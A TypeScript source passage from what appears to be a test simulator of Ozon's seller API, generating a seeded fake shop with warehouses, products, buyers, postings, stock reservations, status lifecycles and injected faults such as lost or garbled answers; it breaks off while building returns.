// The simulated shop: deterministic generation from a seed, posting lifecycles, stock bookkeeping and
// advance(). Handlers (handlers/*.ts) read and change it; render.ts turns it into Ozon's wire format.
import {
  CANCEL_REASONS,
  COLORS,
  FBO_WAREHOUSES,
  FBP_WAREHOUSES,
  FIRST_NAMES,
  HOSTILE_BUYER_NAMES,
  LAST_NAMES,
  LONG_NAME,
  OFFER_IDS_FIXED,
  PAYMENT_TYPES,
  PLACES,
  PRODUCT_NAMES,
  RETURN_REASONS,
  STREETS,
  type Place,
} from './data';
import { shippedByOzon } from './model';
import type {
  Buyer,
  Cancellation,
  Chat,
  ChatMessage,
  ConditionalCancellation,
  Currency,
  LabelTask,
  Posting,
  PostingLine,
  Product,
  Scheme,
  ShopState,
  StockCell,
  Warehouse,
} from './model';
import { mix, Rng } from './random';
import { SortedIndex } from './sorted-index';
import { FboStock } from './fbo-stock';

export const HOUR = 3_600_000;
export const DAY = 24 * HOUR;
const KZT_PER_RUB = 5.5;

export interface ShopOptions {
  seed?: number;
  postings?: number;
  products?: number;
  days?: number;
  warehouses?: number;
  /** FBP postings (partner warehouses) over `days`, beside `postings`; default 0. */
  fbp?: number;
  /** Ozon clusters the shop's FBO stock is spread over (default 5). */
  clusters?: number;
  /** Share of product × warehouse pairs where the product is not stocked at all (default 0). */
  unlistedShare?: number;
  now?: number | string;
  clientId?: string;
  apiKey?: string;
  /**
   * Share of new FBS/rFBS postings that need data before packing (a country of manufacture, Chestny ZNAK
   * marking codes, or for rFBS a ship date). Default 0: tests opt in (or use sim.handover.requireData).
   */
  complianceRate?: number;
}

const TERMINAL = new Set(['delivered', 'cancelled', 'cancelled_from_split_pending']);
export const UNFULFILLED = new Set(['awaiting_packaging', 'awaiting_deliver']);
const RESERVING = new Set(['awaiting_packaging', 'awaiting_deliver']);

interface Plan {
  packDelay: number;
  neverPack: boolean;
  buyerCancelAfter: number | null;
  handover: number;
  deliver: number;
  notPickedUp: boolean;
  arbitration: boolean;
  split: boolean;
  fboPack: number;
  fboShip: number;
}

/** How an answer is lost after Ozon acted: a gateway timeout, an HTML 502 page, or a body cut short. */
export type LostAnswer = 'timeout' | 'html502' | 'garbled';

export class Shop {
  readonly seed: number;
  readonly days: number;
  readonly targetPostings: number;
  readonly clientId: string;
  readonly apiKey: string;
  readonly startedAt: number;
  readonly rng: Rng;

  readonly state: ShopState;
  /** Ozon's stock of the shop by cluster, and the seller's supply requests. */
  readonly fboStock: FboStock;
  /** Whether /v4/product/info/stocks still fills the deprecated items.stocks.warehouse_ids. */
  fillWarehouseIds = true;
  /** FBS + rFBS postings by (in_process_at, seq); FBO postings likewise; open FBS work by (in_process_at, seq). */
  readonly fbsIndex = new SortedIndex();
  readonly fboIndex = new SortedIndex();
  readonly fbpIndex = new SortedIndex();
  readonly targetFbp: number;
  private fbpCarry = 0;
  readonly unfulfilledIndex = new SortedIndex();
  private readonly active = new Set<Posting>();
  private readonly postingsPerOrder = new Map<string, number>();
  private readonly buyers: Buyer[] = [];
  private seq = 0;
  private orderSeq = 0;
  private arrivalCarry = 0;
  private nextReturnId = 70_000_001;
  private nextMessageId = 3_000_000_000_118_032_000n;
  nextLabelTaskId = 5_819_327_210_248;
  nextCarriageId = 2_402_301;
  nextExemplarId = 77_000_100_001;
  readonly complianceRate: number;
  /** Marking codes Chestny ZNAK refuses at packing (the posting turns ship_failed). */
  readonly blockedMarks = new Set<string>();
  /** Postings rendered with a change of the test's making (a field in a shape the spec does not allow). */
  readonly garbled = new Map<string, (item: Record<string, unknown>) => void>();
  /** Paths whose next call is carried out but whose answer is lost (504 by default). */
  readonly lostAnswers = new Map<string, LostAnswer>();

  /** Called at the end of advance() (handover acceptance lives in handlers/handover.ts). */
  onAdvance?: (to: number) => void;

  constructor(opts: ShopOptions = {}) {
    this.seed = opts.seed ?? 1;
    this.days = Math.max(1, opts.days ?? 30);
    this.targetPostings = Math.max(0, opts.postings ?? 300);
    this.targetFbp = Math.max(0, Math.floor(opts.fbp ?? 0));
    this.startedAt =
      opts.now === undefined ? Date.parse('2026-11-20T09:00:00Z') : new Date(opts.now).getTime();
    this.clientId = opts.clientId ?? '123456';
    this.apiKey = opts.apiKey ?? `demo-${String(this.seed % 10000).padStart(4, '0')}-key`;
    this.complianceRate = Math.max(0, Math.min(1, opts.complianceRate ?? 0));
    this.rng = new Rng(mix(this.seed, 1));
    this.state = {
      postings: new Map(),
      products: [],
      productsBySku: new Map(),
      productsById: new Map(),
      productsByOffer: new Map(),
      warehouses: [],
      stocks: new Map(),
      returns: [],
      rfbsReturns: [],
      chats: [],
      conditionalCancellations: [],
      labelTasks: new Map<number, LabelTask>(),
      carriages: new Map(),
      accrualCorrections: [],
    };
    this.generate(opts.products ?? 60, opts.warehouses ?? 3);
    this.unlist(opts.unlistedShare ?? 0);
    this.fboStock = new FboStock(
      this.seed,
      this.state.products,
      Math.max(1, opts.clusters ?? 5),
      this.startedAt,
    );
  }

  // ---------- generation ----------

  private generate(productCount: number, warehouseCount: number): void {
    const now = this.startedAt;
    this.makeWarehouses(Math.max(1, warehouseCount), now);
    this.makeProducts(Math.max(1, productCount), now);
    this.makeBuyers(Math.max(12, Math.min(8000, Math.round(this.targetPostings * 0.6))));
    const from = now - this.days * DAY;
    const times: number[] = [];
    while (times.length < this.targetPostings) {
      const t = from + Math.floor(this.rng.next() * (now - from));
      // more orders in the Moscow daytime and evening (UTC+3), fewer at night
      const mskHour = (Math.floor(t / HOUR) + 3) % 24;
      const weight = mskHour < 7 ? 0.25 : mskHour < 10 ? 0.6 : 1;
      if (this.rng.next() < weight) times.push(t);
    }
    times.sort((a, b) => a - b);
    for (const t of times) {
      for (const p of this.newOrder(t)) this.progress(p, now, true);
    }
    this.makeStocks();
    this.makeReturns(now);
    this.makeChats(now);
    this.makeConditionalCancellations(now);
    // FBP comes last, so a shop without it is generated exactly as before.
    const fbpTimes: number[] = [];
    for (let i = 0; i < this.targetFbp; i++) fbpTimes.push(from + Math.floor(this.rng.next() * (now - from)));
    fbpTimes.sort((a, b) => a - b);
    for (const t of fbpTimes) this.progress(this.newFbpOrder(t), now, true);
  }

  /** A new FBP order at time t: one posting from a partner warehouse. */
  newFbpOrder(t: number): Posting {
    const buyer = this.pickBuyer();
    buyer.orders += 1;
    const orderNumber = `${buyer.prefix}-${String(buyer.orders % 10000).padStart(4, '0')}`;
    const orderId = 30_000_000_000 + ++this.orderSeq * 13 + this.rng.int(0, 12);
    return this.newPosting('fbp', t, buyer, orderId, orderNumber, undefined);
  }

  private makeWarehouses(n: number, now: number): void {
    const bases = [
      {
        name: 'Склад Москва FBS',
        city: 'Москва',
        rfbs: false,
        method: 'Доставка Ozon самостоятельно, Москва',
      },
      {
        name: 'Мой склад rFBS Новосибирск',
        city: 'Новосибирск',
        rfbs: true,
        method: 'Курьер продавца, Новосибирск',
      },
      { name: 'Склад Казань FBS', city: 'Казань', rfbs: false, method: 'Ozon Логистика курьеру, Казань' },
      { name: 'Склад Краснодар rFBS', city: 'Краснодар', rfbs: true, method: 'СДЭК, Краснодар' },
    ];
    for (let i = 0; i < n; i++) {
      const b = bases[i % bases.length];
      const id = 1_020_000_000_000_000 + (i + 1) * 1_731_000 + this.rng.int(0, 999) * 1000;
      this.state.warehouses.push({
        id,
        name: i < bases.length ? b.name : `${b.name} ${Math.floor(i / bases.length) + 1}`,
        isRfbs: b.rfbs,
        city: b.city,
        address: `${b.city}, ${this.rng.pick(STREETS)}, д. ${this.rng.int(1, 120)}`,
        deliveryMethodId: id + 17,
        deliveryMethodName: b.method,
        tplProvider: b.rfbs ? (b.city === 'Краснодар' ? 'СДЭК' : 'Собственная доставка') : 'Ozon Логистика',
        tplProviderId: b.rfbs ? (b.city === 'Краснодар' ? 3 : 0) : 24,
        // Kazan models a warehouse without Ozon's recommended drop-off time: it hands over with an act.
        recommendedTime: b.rfbs || b.city === 'Казань' ? '' : '14:00',
        createdAt: now - 400 * DAY + i * DAY,
      });
    }
  }

  private makeProducts(n: number, now: number): void {
    const used = new Set<string>();
    for (let i = 0; i < n; i++) {
      let offerId: string;
      if (i < OFFER_IDS_FIXED.length) offerId = OFFER_IDS_FIXED[i];
      else {
        const k = this.rng.int(0, 3);
        offerId =
          k === 0
            ? '0' + this.rng.digits(5)
            : k === 1
              ? `${this.rng.digits(4)}-${String.fromCharCode(65 + this.rng.int(0, 25))}`
              : k === 2
                ? `ART-${this.rng.digits(6)}`
                : this.rng.digits(7);
      }
      while (used.has(offerId)) offerId += '-' + this.rng.int(1, 9);
      used.add(offerId);
      const base = i === 7 % n ? LONG_NAME : PRODUCT_NAMES[i % PRODUCT_NAMES.length];
      const name =
        i < PRODUCT_NAMES.length || base === LONG_NAME
          ? base
          : `${base}, вариант ${Math.floor(i / PRODUCT_NAMES.length) + 1}`;
      const price = this.rng.weighted<[number, number]>([
        [[99, 990], 5],
        [[1000, 4990], 4],
        [[5000, 49990], 1],
      ]);
      const p = Math.round(this.rng.int(price[0], price[1]) / 10) * 10 - (this.rng.chance(0.5) ? 1 : 0);
      const product: Product = {
        productId: 834_000_000 + i * 1013 + this.rng.int(0, 999),
        sku: 1_500_000_000 + i * 977 + this.rng.int(0, 900),
        offerId,
        name,
        price: p,
        oldPrice: this.rng.chance(0.6) ? Math.round(p * (1.1 + this.rng.next() * 0.6)) : p,
        currency: 'RUB',
        commissionPercent: this.rng.pick([5, 8, 12, 15, 17, 19, 21]),
        weightKg: Math.round((0.05 + this.rng.next() * 3) * 1000) / 1000,
        color: this.rng.pick(COLORS),
        barcode: 'OZN' + this.rng.digits(9),
        createdAt: now - this.rng.int(60, 700) * DAY,
        archived: this.rng.chance(0.03),
        vat: this.rng.pick(['0', '0.05', '0.2']),
        fboStock: this.rng.chance(0.3) ? 0 : this.rng.int(0, 400),
        fboReserved: 0,
      };
      this.state.products.push(product);
      this.state.productsBySku.set(product.sku, product);
      this.state.productsById.set(product.productId, product);
      this.state.productsByOffer.set(product.offerId, product);
    }
  }

  private makeBuyers(n: number): void {
    const prefixes = new Set<string>();
    for (let i = 0; i < n; i++) {
      let prefix = this.rng.digits(8);
      while (prefixes.has(prefix)) prefix = this.rng.digits(8);
      prefixes.add(prefix);
      this.buyers.push(this.newBuyer(prefix, i));
    }
  }

  private newBuyer(prefix: string, i: number): Buyer {
    const place: Place = this.rng.chance(0.06)
      ? this.rng.pick(PLACES.filter((p) => p.kz))
      : this.rng.pick(PLACES.filter((p) => !p.kz));
    const name = this.rng.chance(0.05)
      ? this.rng.pick(HOSTILE_BUYER_NAMES)
      : `${this.rng.pick(FIRST_NAMES)} ${this.rng.pick(LAST_NAMES)}`;
    const house = this.rng.int(1, 150);
    return {
      customerId: 10_000_000 + i * 37 + this.rng.int(0, 36),
      name,
      phone: (place.kz ? '+77' : '+79') + this.rng.digits(9),
      email: `buyer${i}@example.com`,
      prefix,
      orders: this.rng.int(0, 40),
      address: {
        address_tail: `${this.rng.pick(STREETS)}, д. ${house}, кв. ${this.rng.int(1, 300)}`,
        city: place.city,
        comment: this.rng.chance(0.2)
          ? this.rng.pick(['Домофон не работает', 'Позвонить за час', '=звонить до 18:00', ''])
          : '',
        country: place.country,
        district: '',
        latitude: place.lat + (this.rng.next() - 0.5) / 20,
        longitude: place.lon + (this.rng.next() - 0.5) / 20,
        provider_pvz_code: '',
        pvz_code: 0,
        region: place.region,
        zip_code: place.zip,
      },
    };
  }

  private placeOf(b: Buyer): Place {
    return PLACES.find((p) => p.city === b.address.city) ?? PLACES[0];
  }

  private pickBuyer(): Buyer {
    return this.buyers[Math.floor(this.buyers.length * Math.pow(this.rng.next(), 1.7))];
  }

  private plan(p: Posting): Plan {
    const r = new Rng(mix(this.seed, p.seq, 77));
    return {
      packDelay: Math.floor((0.5 + -Math.log(1 - r.next() * 0.99) * 8) * HOUR),
      neverPack: r.chance(0.04),
      buyerCancelAfter: r.chance(0.035) ? Math.floor((0.3 + r.next() * 20) * HOUR) : null,
      handover: Math.floor((6 + r.next() * 26) * HOUR),
      deliver: Math.floor((20 + r.next() * 110) * HOUR),
      notPickedUp: r.chance(0.04),
      arbitration: r.chance(0.006),
      split: r.chance(0.04),
      fboPack: Math.floor((1 + r.next() * 7) * HOUR),
      fboShip: Math.floor((4 + r.next() * 20) * HOUR),
    };
  }

  /** A new order at time t: one posting, sometimes two (two warehouses). */
  newOrder(t: number): Posting[] {
    const scheme = this.rng.weighted<Scheme>([
      ['fbs', 65],
      ['rfbs', 15],
      ['fbo', 20],
    ]);
    const fbsWh = this.state.warehouses.filter((w) => !w.isRfbs);
    const rfbsWh = this.state.warehouses.filter((w) => w.isRfbs);
    const effective: Scheme =
      scheme === 'rfbs' && !rfbsWh.length ? 'fbs' : scheme === 'fbs' && !fbsWh.length ? 'rfbs' : scheme;
    const buyer = this.pickBuyer();
    buyer.orders += 1;
    const orderNumber = `${buyer.prefix}-${String(buyer.orders % 10000).padStart(4, '0')}`;
    const orderId = 30_000_000_000 + ++this.orderSeq * 13 + this.rng.int(0, 12);
    const count = effective !== 'fbo' && this.rng.chance(0.05) ? 2 : 1;
    const out: Posting[] = [];
    for (let i = 0; i < count; i++) {
      const pool = effective === 'rfbs' ? rfbsWh : fbsWh;
      out.push(
        this.newPosting(
          effective,
          t,
          buyer,
          orderId,
          orderNumber,
          pool[(i + this.rng.int(0, 9)) % Math.max(1, pool.length)],
        ),
      );
    }
    return out;
  }

  private newLines(currency: Currency): PostingLine[] {
    const n = this.rng.weighted<number>([
      [1, 70],
      [2, 20],
      [3, 7],
      [4, 3],
    ]);
    const lines: PostingLine[] = [];
    const used = new Set<number>();
    for (let i = 0; i < Math.min(n, this.state.products.length); i++) {
      let prod = this.rng.pick(this.state.products);
      for (let k = 0; used.has(prod.sku) && k < 10; k++) prod = this.rng.pick(this.state.products);
      if (used.has(prod.sku)) continue;
      used.add(prod.sku);
      const rate = currency === 'KZT' ? KZT_PER_RUB : 1;
      const price = Math.round(prod.price * rate * (this.rng.chance(0.2) ? 0.9 : 1) * 100) / 100;
      lines.push({
        sku: prod.sku,
        offerId: prod.offerId,
        name: prod.name,
        quantity: this.rng.weighted<number>([
          [1, 80],
          [2, 15],
          [3, 5],
        ]),
        price,
        oldPrice: Math.max(price, Math.round(prod.oldPrice * rate * 100) / 100),
        commissionPercent: prod.commissionPercent,
      });
    }
    return lines;
  }

  newPosting(
    scheme: Scheme,
    t: number,
    buyer: Buyer,
    orderId: number,
    orderNumber: string,
    wh: Warehouse | undefined,
    lines?: PostingLine[],
    parent?: Posting,
  ): Posting {
    const place = this.placeOf(buyer);
    const currency: Currency = parent ? parent.currency : place.kz ? 'KZT' : 'RUB';
    const n = (this.postingsPerOrder.get(orderNumber) ?? 0) + 1;
    this.postingsPerOrder.set(orderNumber, n);
    const fboWh = scheme === 'fbp' ? this.rng.pick(FBP_WAREHOUSES) : this.rng.pick(FBO_WAREHOUSES);
    const cutoff = nextCutoff(t);
    const seq = ++this.seq;
    const p: Posting = {
      seq,
      postingNumber: `${orderNumber}-${n}`,
      orderId,
      orderNumber,
      scheme,
      status: 'awaiting_packaging',
      substatus: 'posting_created',
      previousSubstatus: '',
      inProcessAt: t,
      shipmentDate: cutoff,
      deliveringDate: null,
      deliveredAt: null,
      lastChangedStatusDate: t,
      packedAt: null,
      warehouseId: shippedByOzon(scheme) ? fboWh.id : (wh?.id ?? 0),
      warehouseName: shippedByOzon(scheme) ? fboWh.name : (wh?.name ?? ''),
      currency,
      lines: lines ?? this.newLines(currency),
      buyer: scheme === 'rfbs' ? buyer : null,
      region: place.region,
      city: place.city,
      clusterFrom:
        scheme === 'fbp'
          ? ((fboWh as { city?: string }).city ?? '')
          : scheme === 'fbo'
            ? 'Москва, МО и Дальние регионы'
            : (wh?.city ?? ''),
      clusterTo: place.cluster,
      paymentType: parent ? parent.paymentType : this.rng.pick(PAYMENT_TYPES),
      deliveryType: scheme === 'rfbs' ? 'Courier' : this.rng.pick(['PVZ', 'PVZ', 'Courier', 'Postamat']),
      isPremium: this.rng.chance(0.15),
      isLegal: parent ? parent.isLegal : this.rng.chance(0.03),
      legal: null,
      trackingNumber: '',
      tplIntegrationType: scheme === 'rfbs' ? 'non_integrated' : 'ozon',
      parentPostingNumber: parent?.postingNumber ?? '',
      cancellation: null,
      barcodes: { upper: `%${this.rng.digits(9)}%`, lower: this.rng.digits(15) },
      isExpress: scheme === 'fbs' && this.rng.chance(0.02),
      exemplarsSet: false,
    };
    if (p.isLegal)
      p.legal = {
        company_name: 'ООО «Ромашка»',
        inn: '77' + this.rng.digits(8),
        kpp: '77' + this.rng.digits(7),
      };
    if (parent) {
      p.status = parent.status;
      p.substatus = parent.substatus;
      p.packedAt = parent.packedAt;
      p.lastChangedStatusDate = parent.lastChangedStatusDate;
      p.shipmentDate = parent.shipmentDate;
      p.warehouseId = parent.warehouseId;
      p.warehouseName = parent.warehouseName;
      p.paymentType = parent.paymentType;
      p.deliveryType = parent.deliveryType;
      p.clusterFrom = parent.clusterFrom;
      p.tplIntegrationType = parent.tplIntegrationType;
      p.isPremium = parent.isPremium;
    }
    if (!parent && scheme !== 'fbo' && this.complianceRate > 0) this.drawCompliance(p);
    this.add(p);
    return p;
  }

  /** Decides, on its own random stream (other draws stay as they were), what Ozon needs before packing. */
  private drawCompliance(p: Posting): void {
    const r = new Rng(mix(this.seed, p.seq, 91));
    const rate = this.complianceRate;
    const country = r.chance(rate) ? [p.lines[0].sku] : [];
    const mark = r.chance(rate) ? p.lines.map((l) => l.sku) : [];
    const cutoff = p.scheme === 'rfbs' && r.chance(rate);
    if (country.length || mark.length || cutoff) this.requireData(p, { country, mark, cutoff });
  }

  /** Makes a posting need data before packing (tests, the demo shop). */
  requireData(p: Posting, needs: { country?: number[]; mark?: number[]; cutoff?: boolean }): void {
    const c = (p.compliance ??= {
      country: new Set(),
      mark: new Set(),
      cutoff: false,
      countries: new Map(),
      exemplars: new Map(),
      marks: new Map(),
      setAt: null,
    });
    for (const sku of needs.country ?? []) c.country.add(sku);
    for (const sku of needs.mark ?? []) c.mark.add(sku);
    if (needs.cutoff) c.cutoff = true;
  }

  private add(p: Posting): void {
    this.state.postings.set(p.postingNumber, p);
    (p.scheme === 'fbo' ? this.fboIndex : p.scheme === 'fbp' ? this.fbpIndex : this.fbsIndex).insert(p);
    if (!shippedByOzon(p.scheme) && UNFULFILLED.has(p.status)) this.unfulfilledIndex.insert(p);
    if (!TERMINAL.has(p.status)) this.active.add(p);
    if (RESERVING.has(p.status)) this.reserve(p, +1);
  }

  // ---------- stocks ----------

  stockKey(productId: number, warehouseId: number): string {
    return `${productId}:${warehouseId}`;
  }

  stockCell(productId: number, warehouseId: number): StockCell {
    const key = this.stockKey(productId, warehouseId);
    let c = this.state.stocks.get(key);
    if (!c) {
      c = { present: 0, reserved: 0, updatedAt: 0 };
      this.state.stocks.set(key, c);
    }
    return c;
  }

  /**
   * Takes products out of some warehouses (no stock cell: Ozon lists nothing there), from its own random
   * stream so a shop without it is generated exactly as before. Never a product's last warehouse, never a
   * pair an existing posting ships from.
   */
  private unlist(share: number): void {
    if (!(share > 0) || this.state.warehouses.length < 2) return;
    const rng = new Rng(mix(this.seed, 1919));
    const used = new Set<string>();
    for (const p of this.state.postings.values())
      for (const l of p.lines) {
        const prod = this.state.productsBySku.get(l.sku);
        if (prod) used.add(this.stockKey(prod.productId, p.warehouseId));
      }
    for (const prod of this.state.products) {
      let left = this.state.warehouses.length;
      for (const w of this.state.warehouses) {
        const key = this.stockKey(prod.productId, w.id);
        if (left > 1 && !used.has(key) && rng.chance(share)) {
          this.state.stocks.delete(key);
          left--;
        }
      }
    }
  }

  private makeStocks(): void {
    for (const prod of this.state.products) {
      for (const w of this.state.warehouses) {
        const c = this.stockCell(prod.productId, w.id);
        const free = this.rng.chance(0.12) ? 0 : this.rng.int(1, 250);
        c.present = c.reserved + free;
      }
    }
  }

  /** Reserves (+1) or releases (-1) a posting's quantities at its warehouse. */
  private reserve(p: Posting, sign: 1 | -1): void {
    for (const l of p.lines) {
      const prod = this.state.productsBySku.get(l.sku);
      if (!prod || p.scheme === 'fbp') continue; // partner-warehouse stock is not modelled
      if (p.scheme === 'fbo') {
        prod.fboReserved = Math.max(0, prod.fboReserved + sign * l.quantity);
        prod.fboStock = Math.max(prod.fboStock, prod.fboReserved);
        continue;
      }
      const c = this.stockCell(prod.productId, p.warehouseId);
      c.reserved = Math.max(0, c.reserved + sign * l.quantity);
      c.present = Math.max(c.present, c.reserved);
    }
  }

  /** Removes cancelled quantities from an open posting, releasing their reservation. */
  reduceLines(p: Posting, cut: Map<number, number>): void {
    this.reserve(p, -1);
    p.lines = p.lines
      .map((l) => ({ ...l, quantity: l.quantity - (cut.get(l.sku) ?? 0) }))
      .filter((l) => l.quantity > 0);
    this.reserve(p, +1);
  }

  /** Stock leaves the warehouse when the posting is handed over. */
  private consume(p: Posting): void {
    for (const l of p.lines) {
      const prod = this.state.productsBySku.get(l.sku);
      if (!prod || p.scheme === 'fbp') continue;
      if (p.scheme === 'fbo') {
        prod.fboStock = Math.max(0, prod.fboStock - l.quantity);
        continue;
      }
      const c = this.stockCell(prod.productId, p.warehouseId);
      c.present = Math.max(c.reserved, c.present - l.quantity);
    }
  }

  // ---------- lifecycle ----------

  /** Changes a posting's status at time `at`, keeping indexes, reservations and last_changed_status_date. */
  setStatus(p: Posting, status: string, substatus: string, at: number): void {
    const before = p.status;
    if (before === status && p.substatus === substatus) return;
    const wasUnfulfilled = !shippedByOzon(p.scheme) && UNFULFILLED.has(before);
    const isUnfulfilled = !shippedByOzon(p.scheme) && UNFULFILLED.has(status);
    if (RESERVING.has(before) && !RESERVING.has(status)) {
      this.reserve(p, -1);
      if (status === 'delivering') this.consume(p);
    }
    if (!RESERVING.has(before) && RESERVING.has(status)) this.reserve(p, +1);
    p.previousSubstatus = p.substatus;
    p.status = status;
    p.substatus = substatus;
    if (before !== status) p.lastChangedStatusDate = Math.max(at, p.lastChangedStatusDate);
    if (wasUnfulfilled && !isUnfulfilled) this.unfulfilledIndex.remove(p);
    if (!wasUnfulfilled && isUnfulfilled) this.unfulfilledIndex.insert(p);
    if (TERMINAL.has(status)) this.active.delete(p);
    else this.active.add(p);
  }

  cancelPosting(p: Posting, reasonId: number, initiator: Cancellation['initiator'], at: number): void {
    const reason = CANCEL_REASONS.find((r) => r.id === reasonId);
    p.cancellation = {
      reasonId,
      reason: reason?.title ?? 'Отменён',
      initiator,
      type: initiator.toLowerCase() as Cancellation['type'],
      afterShip: p.packedAt !== null,
      affectsRating: initiator === 'Seller' || reasonId === 680,
    };
    this.setStatus(p, 'cancelled', 'posting_canceled', at);
  }

  /** Packs a posting at `at` (one package). */
  pack(p: Posting, at: number): void {
    p.packedAt = at;
    this.setStatus(p, 'awaiting_deliver', 'posting_not_in_carriage', at);
  }

  /** Splits a posting into packages: the parent turns `cancelled_from_split_pending`, children are packed. */
  split(p: Posting, packages: PostingLine[][], at: number): Posting[] {
    p.packedAt = at;
    this.setStatus(p, 'cancelled_from_split_pending', 'posting_split_pending', at);
    const buyer = p.buyer ?? this.pickBuyer();
    const wh = this.state.warehouses.find((w) => w.id === p.warehouseId);
    const children: Posting[] = [];
    for (const lines of packages) {
      const child = this.newPosting(p.scheme, p.inProcessAt, buyer, p.orderId, p.orderNumber, wh, lines, p);
      child.buyer = p.buyer;
      this.setStatus(child, 'awaiting_deliver', 'posting_not_in_carriage', at);
      child.packedAt = at;
      child.lastChangedStatusDate = at;
      children.push(child);
    }
    return children;
  }

  /** Moves a posting forward to time T. `seller` lets the simulated seller pack and dispatch (history only). */
  progress(p: Posting, T: number, seller: boolean): void {
    const plan = this.plan(p);
    for (let guard = 0; guard < 8; guard++) {
      if (TERMINAL.has(p.status) || p.status === 'client_arbitration') return;
      if (shippedByOzon(p.scheme)) {
        if (p.status === 'awaiting_packaging') {
          const at = p.inProcessAt + plan.fboPack;
          if (plan.buyerCancelAfter !== null && p.inProcessAt + plan.buyerCancelAfter < at) {
            if (p.inProcessAt + plan.buyerCancelAfter > T) return;
            this.cancelPosting(p, 501, 'Client', p.inProcessAt + plan.buyerCancelAfter);
            continue;
          }
          if (at > T) return;
          this.setStatus(p, 'awaiting_deliver', 'posting_transferring_to_delivery', at);
          p.packedAt = at;
        } else if (p.status === 'awaiting_deliver') {
          const at = (p.packedAt ?? p.inProcessAt) + plan.fboShip;
          if (at > T) return;
          p.deliveringDate = at;
          this.setStatus(p, 'delivering', 'posting_on_way_to_city', at);
        } else if (p.status === 'delivering') {
          if (!this.deliver(p, plan, T)) return;
        } else return;
        continue;
      }
      if (p.status === 'awaiting_packaging') {
        const cancelAt = plan.buyerCancelAfter !== null ? p.inProcessAt + plan.buyerCancelAfter : Infinity;
        // sellers pack in batches before the pack-by deadline, not the minute an order arrives
        const packAt =
          seller && !plan.neverPack
            ? Math.max(p.inProcessAt + 30 * 60_000, p.shipmentDate - (plan.packDelay % (8 * HOUR)) - HOUR)
            : Infinity;
        const overdueAt = p.shipmentDate + 2 * DAY;
        const first = Math.min(cancelAt, packAt, overdueAt);
        if (first > T) return;
        if (first === cancelAt) this.cancelPosting(p, this.rng.pick([501, 502, 503]), 'Client', cancelAt);
        else if (first === packAt) {
          if (plan.split && p.lines.length > 1 && !p.parentPostingNumber) {
            this.split(
              p,
              p.lines.map((l) => [{ ...l }]),
              packAt,
            ).forEach((c) => this.progress(c, T, seller));
            return;
          }
          this.pack(p, packAt);
        } else this.cancelPosting(p, 680, 'Ozon', overdueAt);
      } else if (p.status === 'awaiting_deliver') {
        const at = (p.packedAt ?? p.inProcessAt) + plan.handover;
        if (p.scheme === 'rfbs' && !seller) return; // the rFBS seller reports dispatch via the API
        if (p.substatus === 'posting_in_carriage') return; // Ozon takes it over when it accepts the shipping
        if (at > T) return;
        p.deliveringDate = at;
        if (p.scheme === 'rfbs' && this.rng.chance(0.7))
          p.trackingNumber = 'RU' + String(p.seq).padStart(9, '0');
        this.setStatus(
          p,
          'delivering',
          p.scheme === 'rfbs' ? 'posting_transferred_to_courier_service' : 'posting_on_way_to_city',
          at,
        );
      } else if (p.status === 'delivering') {
        if (!this.deliver(p, plan, T)) return;
      } else return;
    }
  }

  private deliver(p: Posting, plan: Plan, T: number): boolean {
    const at = (p.deliveringDate ?? p.inProcessAt) + plan.deliver;
    if (at > T) return false;
    if (plan.arbitration) this.setStatus(p, 'client_arbitration', 'posting_in_client_arbitration', at);
    else if (plan.notPickedUp) this.cancelPosting(p, 665, 'Client', at);
    else this.receive(p, at);
    return true;
  }

  /** The buyer receives the posting at `at`: delivered, and its sale and fees are booked then. */
  receive(p: Posting, at: number): void {
    p.deliveredAt = at;
    this.setStatus(
      p,
      'delivered',
      p.scheme === 'rfbs' ? 'posting_conditionally_delivered' : 'posting_received',
      at,
    );
  }

  /** Moves the shop from `from` to `to`: new orders arrive at the generated rate, open postings progress. */
  advance(from: number, to: number): void {
    if (to <= from) return;
    const perMs = this.targetPostings / (this.days * DAY);
    const expected = perMs * (to - from) + this.arrivalCarry;
    const count = Math.floor(expected);
    this.arrivalCarry = expected - count;
    const times: number[] = [];
    for (let i = 0; i < count; i++) times.push(from + 1 + Math.floor(this.rng.next() * (to - from - 1)));
    times.sort((a, b) => a - b);
    for (const t of times) {
      for (const p of this.newOrder(t)) {
        if (p.buyer && this.rng.chance(0.08)) this.addChat(p, t + HOUR, 1);
      }
    }
    if (this.targetFbp) {
      const fbpExpected = (this.targetFbp / (this.days * DAY)) * (to - from) + this.fbpCarry;
      const fbpCount = Math.floor(fbpExpected);
      this.fbpCarry = fbpExpected - fbpCount;
      for (let i = 0; i < fbpCount; i++)
        this.newFbpOrder(from + 1 + Math.floor(this.rng.next() * (to - from - 1)));
    }
    for (const p of [...this.active]) this.progress(p, to, false);
    this.onAdvance?.(to);
    for (const c of this.state.conditionalCancellations) {
      if (c.state === 'ON_APPROVAL' && c.autoApproveAt <= to)
        this.decideCancellation(c, true, '', c.autoApproveAt);
    }
  }

  /** Approving a buyer's cancellation request cancels the posting (if still open). */
  decideCancellation(c: ConditionalCancellation, approve: boolean, comment: string, at: number): void {
    c.state = approve ? 'APPROVED' : 'REJECTED';
    c.decidedAt = at;
    c.comment = comment;
    const p = this.state.postings.get(c.postingNumber);
    if (approve && p && UNFULFILLED.has(p.status)) this.cancelPosting(p, c.reasonId, 'Client', at);
  }

  // ---------- returns, chats, cancellation requests ----------

  private makeReturns(now: number): void {
    const list = [...this.state.postings.values()];
    for (const p of list) {
      const notPickedUp = p.status === 'cancelled' && p.cancellation?.reasonId === 665;
      if (p.status !== 'delivered' && !notPickedUp) continue;
      const r = new Rng(mix(this.seed, p.seq, 91));
      if (p.scheme === 'rfbs') {
        if (p.status === 'delivered' && r.chance(0.12)) this.addRfbsReturn(p, r, now);
        continue;
      }
      if (!notPickedUp && !r.chance(0.07)) continue;
      const line = p.lines[0];
      const created = Math.min(now - HOUR, (p.deliveredAt ?? p.lastChangedStatusDate) + r.int(1, 96) * HOUR);
      const moved = Math.min(now, created + r.int(1, 72) * HOUR);
      const status = r.pick([
        ['MovingToSeller', 'В пути к продавцу'],
        ['ArrivedAtReturnPlace', 'В пункте выдачи'],
        ['ReceivedBySeller', 'Получен продавцом'],
      ] as const);
      this.state.returns.push({
        id: this.nextReturnId++,
        postingNumber: p.postingNumber,
        orderId: p.orderId,
        orderNumber: p.orderNumber,
        schema: shippedByOzon(p.scheme) ? 'FBO' : 'FBS',
        type: notPickedUp ? 'FullReturn' : 'ClientReturn',
        reason: notPickedUp ? 'Покупатель не забрал заказ' : r.pick(RETURN_REASONS),
        sku: line.sku,
        offerId: line.offerId,
        name: line.name,
        price: line.price,
        currency: p.currency,
        commissionPercent: line.commissionPercent,
        quantity: line.quantity,
